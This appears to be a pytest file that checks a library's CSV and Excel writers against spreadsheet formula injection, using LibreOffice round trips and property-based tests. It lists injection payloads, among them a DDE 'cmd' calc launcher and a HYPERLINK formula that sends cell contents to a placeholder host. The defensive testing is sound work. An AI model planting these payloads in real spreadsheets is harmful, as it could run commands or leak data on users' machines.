"""P25: cells are typed as text and never start a formula. Attacked by a round trip through LibreOffice."""

import csv
import io
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from msa.tables import write_csv, write_xlsx
from msa.tables.writing import safe_text

pytestmark = pytest.mark.attack

STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
BLANKS = [
    " =",
    "   =",
    "\u00a0=",
    "\u2003@",
    "\u200b=",
    "\ufeff=",
    "\u200e=",
    "\u3000+",
    " \t -",
    "\x0b=",
    "\u2060＝",
]
BODIES = ["1+1", "cmd|'/C calc'!A0", 'HYPERLINK("http://x.invalid/?"&A1;"klik")', "SUM(A1:A9)", "A1"]
PAYLOADS = [start + body for start in STARTS + BLANKS for body in BODIES]
HARMLESS = ["Straat 7", "7 = veel", "'s avonds", "a\nb", "Ærø 😀", "1-2", "x@y", "‘=’", "(=1)"]
# Separator ';', quote '"', UTF-8, from row 1, standard cells, evaluate formulas.
IMPORT = "CSV:59,34,76,1,,0,false,true,false,false,false,-1,true"


def office(source: Path, target: str, folder: Path, *options: str) -> Path:
    """What LibreOffice makes of a file, as another file."""
    program = shutil.which("soffice")
    assert program, "LibreOffice is missing: install libreoffice-calc-nogui"
    profile = f"-env:UserInstallation=file://{folder}/profile"
    out = folder / "out" / source.stem
    command = [program, profile, "--headless", "--norestore", *options, "--convert-to", target]
    done = subprocess.run(
        [*command, "--outdir", str(out), str(source)], capture_output=True, text=True, timeout=120, check=True
    )
    made = [path for path in out.iterdir() if path.suffix == "." + target.split(":")[0]]
    assert len(made) == 1, done.stdout + done.stderr
    return made[0]


def formulas_in(workbook: Path) -> list[str]:
    book = openpyxl.load_workbook(workbook)
    return [
        str(cell.value)
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def texts_in(workbook: Path) -> list[object]:
    sheet = openpyxl.load_workbook(workbook).worksheets[0]
    return [row[0] for row in sheet.iter_rows(min_row=2, max_col=1, values_only=True)]


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    return tmp_path_factory.mktemp("office")


def test_libreoffice_does_run_formulas_from_a_careless_csv(folder):
    """Without this the tests below would prove nothing."""
    source = folder / "careless.csv"
    source.write_text('"tekst"\r\n"=1+1"\r\n"-1+1"\r\n', encoding="utf-8-sig")
    assert "=1+1" in formulas_in(office(source, "xlsx", folder, f"--infilter={IMPORT}"))


def test_no_cell_of_a_csv_becomes_a_formula_in_libreoffice(folder):
    source = folder / "safe.csv"
    rows = [[text, 7] for text in PAYLOADS + HARMLESS]
    source.write_bytes(write_csv(["=kop()", "aantal"], rows))
    made = office(source, "xlsx", folder, f"--infilter={IMPORT}")
    assert formulas_in(made) == []
    texts = texts_in(made)
    assert len(texts) == len(rows)
    assert all(isinstance(text, str) for text in texts)
    assert texts[-len(HARMLESS) :] == HARMLESS


def test_no_cell_of_a_workbook_becomes_a_formula_also_when_it_is_saved_as_csv_and_opened_again(folder):
    source = folder / "workbook.xlsx"
    rows = [[text, 7] for text in PAYLOADS + HARMLESS]
    source.write_bytes(write_xlsx(["=kop()", "aantal"], rows))
    assert formulas_in(source) == []
    again = office(source, "csv:Text - txt - csv (StarCalc):59,34,76,1,,0,false,true,false", folder)
    with again.open(encoding="utf-8", newline="") as file:
        saved = [row[0] for row in csv.reader(file, delimiter=";")][1:]
    assert saved[-len(HARMLESS) :] == HARMLESS
    last = folder / "again.csv"
    last.write_bytes(again.read_bytes())
    assert formulas_in(office(last, "xlsx", folder, f"--infilter={IMPORT}")) == []


def test_numbers_stay_numbers_in_libreoffice(folder):
    source = folder / "numbers.csv"
    source.write_bytes(write_csv(["tekst", "aantal", "cijfer"], [["x", -7, 7.5]]))
    dutch = IMPORT.replace(",,0,", ",,1043,")
    sheet = openpyxl.load_workbook(office(source, "xlsx", folder, f"--infilter={dutch}")).worksheets[0]
    assert [cell.value for cell in sheet[2]] == ["x", -7, 7.5]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_is_preceded_by_an_apostrophe_and_otherwise_whole(payload):
    safe = safe_text(payload)
    assert safe.startswith("'")
    assert safe[1:] == payload.replace("\x0b", "")


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_left_alone(text):
    assert safe_text(text) == text


@settings(max_examples=500, deadline=None)
@given(st.text(alphabet=st.sampled_from("=+-@＝＋－＠\t\r\n \u00a0\u200b\ufeff\x00ab1'"), max_size=8))
def test_no_written_cell_starts_with_a_formula_whatever_stands_before_it(text):
    value = openpyxl.load_workbook(io.BytesIO(write_xlsx(["kop"], [[text]]))).active["A2"]
    assert value.data_type != "f"
    for cell in (str(value.value or ""), safe_text(text)):
        assert cell[:1] not in tuple("=+-@＝＋－＠\t\r\n")
        assert cell.lstrip(" \u00a0\u200b\ufeff\t\r\n")[:1] not in tuple("=+-@＝＋－＠")
